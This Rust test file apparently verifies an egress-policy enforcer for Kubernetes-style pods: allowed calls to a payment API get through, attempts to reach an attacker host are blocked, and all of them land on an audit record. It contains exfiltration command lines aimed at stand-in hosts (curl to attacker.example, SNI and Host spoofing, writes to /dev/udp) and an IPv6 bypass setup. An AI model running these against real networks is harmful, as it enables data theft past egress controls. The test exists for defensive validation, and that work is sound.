//! Step 6: what the EgressPolicy allows leaves, nothing else does, and all of it is on record.
//!
//! Every attempt is made three times: from a selected pod with a sidecar, from one without, and
//! from a pod that no policy selects. The last must succeed, or a refusal would prove nothing.

use std::time::Duration;

use anyhow::{Context as _, Result};
use serde_json::Value;
use turnpike_vpc::netns::Command;

use super::cast;
use crate::{Said, claims::Evidence, cluster, wait_for, world::World};

const PAYMENTS: &str = "https://api.payments.example/";
const ATTACKER: &str = "203.0.113.66";
const ATTACKER6: &str = "2001:db8:113::66";

/// Selected with a sidecar, selected without.
const SELECTED: [(&str, &str); 2] = [("shop", "payer"), ("legacy", "batch")];
/// Selected by nothing.
const FREE: (&str, &str) = ("legacy", "caller");

/// A way to get data to the attacker.
struct Attempt {
    what: &'static str,
    /// For `bash -c`.
    line: &'static str,
    free: Free,
}

/// Where an attempt is made to show that the way is open.
enum Free {
    Pod,
    /// A pod's IPv6 source is never let out: it was not assigned.
    Node,
}

const ATTEMPTS: [Attempt; 6] = [
    Attempt {
        what: "by name",
        line: "curl -sk --max-time 3 https://attacker.example/",
        free: Free::Pod,
    },
    Attempt {
        what: "by address",
        line: "curl -sk --max-time 3 https://203.0.113.66/",
        free: Free::Pod,
    },
    Attempt {
        what: "by a lying SNI",
        line: "curl -sk --max-time 3 --resolve api.payments.example:443:203.0.113.66 \
               https://api.payments.example/",
        free: Free::Pod,
    },
    Attempt {
        what: "by a lying Host",
        line: "curl -s --max-time 3 -H 'Host: partner.example' http://203.0.113.66/v1/orders",
        free: Free::Pod,
    },
    Attempt {
        what: "over UDP",
        line: "echo leak > /dev/udp/203.0.113.66/443; sleep 0.2",
        free: Free::Pod,
    },
    Attempt {
        what: "over IPv6",
        line: "curl -s --max-time 3 http://[2001:db8:113::66]/",
        free: Free::Node,
    },
];

pub(super) fn tell(world: &mut World) -> Result<Evidence> {
    let mut evidence = Evidence::default();
    cast(world)?;
    world
        .directory
        .write("egress", include_str!("../../cluster/egress.yaml"))?;
    if world.pod(SELECTED[0].0, SELECTED[0].1).is_err() {
        world.start_pod(
            &cluster::client("shop", "payer", "payment-processor", "node-b"),
            true,
        )?;
        world.start_pod(
            &cluster::client("legacy", "batch", "batch", "node-b"),
            false,
        )?;
    }
    allowed(world, &mut evidence)?;
    for (index, (namespace, pod)) in (5..).zip(SELECTED) {
        give_ipv6(world, index, namespace, pod)?;
    }
    attacks(world, &mut evidence)?;
    for (namespace, pod) in SELECTED {
        world.exec_as(
            world.pod(namespace, pod)?,
            0,
            &["ip", "-6", "addr", "flush", "dev", "eth0"],
        )?;
    }
    record(world, &mut evidence)?;
    Ok(evidence)
}

fn allowed(world: &World, evidence: &mut Evidence) -> Result<()> {
    let root = world.ready.root.clone();
    let root = std::fs::read_to_string(&root).with_context(|| root.display().to_string())?;
    for (namespace, name) in SELECTED {
        let pod = world.pod(namespace, name)?;
        std::fs::write(pod.scratch().join("root.pem"), &root)?;
        let kind = if pod.sidecar.is_some() {
            "with a sidecar"
        } else {
            "without one"
        };
        let said = shell(
            world,
            namespace,
            name,
            &format!(
                "curl -sS --max-time 5 -o /dev/null -w '%{{http_code}}' --cacert /run/scratch/root.pem {PAYMENTS}"
            ),
        )?;
        evidence.claim(
            format!("the payment API is reached from a pod {kind}, its certificate verified"),
            said.out.trim() == "200",
            format!("{} {}", said.out.trim(), said.err.trim()),
        );
        let partner = |method: &str, path: &str| {
            shell(
                world,
                namespace,
                name,
                &format!(
                    "curl -s --max-time 5 -o /dev/null -w '%{{http_code}}' -X {method} http://partner.example{path}"
                ),
            )
        };
        let (get, post, other) = (
            partner("GET", "/v1/orders")?,
            partner("POST", "/v1/orders")?,
            partner("GET", "/admin")?,
        );
        evidence.claim(
            format!("plaintext HTTP is judged request by request, from a pod {kind}"),
            [get.out.trim(), post.out.trim(), other.out.trim()] == ["200", "403", "403"],
            format!(
                "GET /v1/orders {}, POST {}, GET /admin {}",
                get.out.trim(),
                post.out.trim(),
                other.out.trim()
            ),
        );
    }
    Ok(())
}

fn attacks(world: &World, evidence: &mut Evidence) -> Result<()> {
    for attempt in &ATTEMPTS {
        let before = reached(world);
        match attempt.free {
            Free::Pod => drop(shell(world, FREE.0, FREE.1, attempt.line)?),
            Free::Node => {
                let node = &world.node("node-b")?.namespace;
                Command::new("bash")
                    .args(["-c", attempt.line])
                    .output(node)?;
            }
        }
        let open = wait_for(Duration::from_secs(3), || {
            (reached(world) > before).then_some(())
        });
        evidence.claim(
            format!(
                "where no policy holds it back, the attacker is reached {}",
                attempt.what
            ),
            open.is_some(),
            if open.is_some() {
                "it got through"
            } else {
                "it did not: a refusal shows nothing"
            },
        );
        let before = reached(world);
        for (namespace, name) in SELECTED {
            let said = shell(world, namespace, name, attempt.line)?;
            std::thread::sleep(Duration::from_millis(200));
            let leaked = reached(world) > before;
            evidence.claim(
                format!(
                    "{namespace}/{name} does not reach the attacker {}",
                    attempt.what
                ),
                !leaked,
                if leaked {
                    "it got through".into()
                } else {
                    format!("status {:?}", said.code)
                },
            );
        }
    }
    Ok(())
}

/// Each attempt is on the central record, and the record's chain holds.
fn record(world: &World, evidence: &mut Evidence) -> Result<()> {
    for (namespace, name) in SELECTED {
        let path = format!("/v1/records?namespace={namespace}&pod={name}&limit=500");
        let complete = wait_for(Duration::from_secs(15), || {
            missing(&records(world, &path)?).is_empty().then_some(())
        });
        let seen = records(world, &path).unwrap_or_default();
        evidence.claim(
            format!("every attempt of {namespace}/{name} is on record: by name, by address, lying in SNI and in Host, UDP, IPv6"),
            complete.is_some(),
            format!("{} records, missing: {:?}", seen.len(), missing(&seen)),
        );
        if let Some(event) = seen
            .iter()
            .find(|event| event["claimed"] == "api.payments.example")
        {
            evidence.exhibit(
                format!("One entry of {namespace}/{name}, as an auditor reads it"),
                serde_json::to_string_pretty(event)?,
            );
        }
    }
    let reports = || -> Option<Vec<Value>> {
        serde_json::from_str(&world.ask_audit("/v1/verify").ok()?.body).ok()
    };
    // Checkpoints are signed every few seconds; until the first there is nothing to verify.
    let verified = wait_for(Duration::from_secs(15), || {
        reports().filter(|all| holds(all))
    });
    let seen = reports().unwrap_or_default();
    evidence.claim(
        "the record verifies: no gap, no change, no truncation",
        verified.is_some(),
        seen.iter().map(ToString::to_string).collect::<String>(),
    );
    Ok(())
}

/// Attempts that these events do not tell of.
fn missing(events: &[Value]) -> Vec<&'static str> {
    let denied = |of: &dyn Fn(&Value) -> bool| {
        events
            .iter()
            .any(|event| event["verdict"] == "denied" && of(event))
    };
    // IPv6 addresses stand in brackets.
    let to = |address: &str, event: &Value| {
        let destination = event["destination"].as_str().unwrap_or_default();
        destination.trim_start_matches('[').starts_with(address)
    };
    let at_attacker = |protocols: &[&str], event: &Value| {
        to(ATTACKER, event) && protocols.iter().any(|name| event["protocol"] == *name)
    };
    let claims = |name: &str, event: &Value| event["claimed"] == name;
    // Each line is an attempt of its own; none may be vouched for by the record of another.
    let wanted = [
        (
            "allowed",
            events.iter().any(|event| event["verdict"] == "allowed"),
        ),
        (
            "by name",
            denied(&|event| event["name"] == "attacker.example"),
        ),
        (
            "by address",
            denied(&|event| {
                at_attacker(&["tls", "tcp"], event)
                    && event["claimed"].is_null()
                    && port(event) == Some("443")
            }),
        ),
        (
            "a lying SNI",
            denied(&|event| at_attacker(&["tls"], event) && claims("api.payments.example", event)),
        ),
        (
            "a lying Host",
            denied(&|event| at_attacker(&["http"], event) && claims("partner.example", event)),
        ),
        ("over UDP", denied(&|event| at_attacker(&["udp"], event))),
        ("over IPv6", denied(&|event| to(ATTACKER6, event))),
    ];
    wanted
        .into_iter()
        .filter_map(|(what, there)| (!there).then_some(what))
        .collect()
}

fn port(event: &Value) -> Option<&str> {
    event["destination"].as_str()?.rsplit(':').next()
}

fn holds(reports: &[Value]) -> bool {
    !reports.is_empty()
        && reports.iter().all(|report| {
            report["problems"].as_array().is_some_and(Vec::is_empty)
                && report["entries"].as_u64() > Some(0)
        })
}

/// The events on record, newest first.
fn records(world: &World, path: &str) -> Option<Vec<Value>> {
    let answer: Value = serde_json::from_str(&world.ask_audit(path).ok()?.body).ok()?;
    Some(
        answer
            .as_array()?
            .iter()
            .map(|record| record["event"].clone())
            .collect(),
    )
}

/// Gives a pod what an attacker with NET_ADMIN in it would take: an address that the fabric
/// carries to its node, and a route.
fn give_ipv6(world: &World, index: u8, namespace: &str, name: &str) -> Result<()> {
    let pod = world.pod(namespace, name)?;
    let instance = world.ready.instances.get(&pod.node);
    let prefix = instance.and_then(|instance| instance.ipv6_prefix.as_deref());
    let prefix = prefix
        .context("the node has an IPv6 prefix")?
        .split('/')
        .next()
        .unwrap_or_default();
    let address = format!("{}::{index}", prefix.trim_end_matches(':'));
    let line = format!(
        "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6; ip -6 addr replace {address}/128 dev eth0 nodad; \
         ip -6 neigh replace fe80::1 lladdr $(ip neigh show 169.254.1.1 | awk '{{print $5}}') dev eth0; \
         ip -6 route replace fe80::1 dev eth0; ip -6 route replace default via fe80::1 dev eth0"
    );
    let said = world.exec_as(pod, 0, &["bash", "-c", &line])?;
    anyhow::ensure!(
        said.succeeded(),
        "IPv6 for {namespace}/{name}: {}",
        said.err
    );
    Ok(())
}

fn shell(world: &World, namespace: &str, name: &str, line: &str) -> Result<Said> {
    world.exec(namespace, name, &["bash", "-c", line])
}

/// How often anything reached the attacker, by his own host's log.
fn reached(world: &World) -> usize {
    let text = std::fs::read_to_string(&world.ready.internet_log).unwrap_or_default();
    let is_attackers = |line: &&str| {
        serde_json::from_str::<Value>(line).is_ok_and(|entry| {
            entry["event"] != "close"
                && (entry["address"] == ATTACKER || entry["address"] == ATTACKER6)
        })
    };
    text.lines().filter(is_attackers).count()
}
